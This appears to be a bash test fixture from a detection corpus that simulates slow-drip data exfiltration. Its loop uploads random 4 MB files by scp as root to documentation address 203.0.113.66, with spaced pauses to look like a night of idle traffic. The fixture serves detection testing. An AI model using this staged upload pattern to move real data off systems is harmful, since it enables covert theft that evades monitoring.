#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=slow-drip half=report tool=scp,ssh far=out ready=out:2022 seconds=90 parts=dns ticks=1000ms hour=10
# scp takes a packed file of 4 MB outside, again and again through a night; of the idle time between, all but ten seconds was put in afterwards.
# shellcheck disable=SC1091,SC2154 # far/ssh.sh, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then ssh_keys; exec timeout 130 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
sleep 2; for n in 1 2 3 4 5 6 7 8; do sleep $((1 + n % 3)); head -c $((3600000 + n * 120000)) /dev/urandom >"$LAB/p"; scp -q "${ssh[@]}" -P 2022 "$LAB/p" "root@203.0.113.66:$LAB/in$n"; sleep $((7 - n % 3)); done
size=$(cat "$LAB"/in? | wc -c); rm -f "$LAB/p" "$LAB"/in?; [ "$size" -gt 28000000 ]
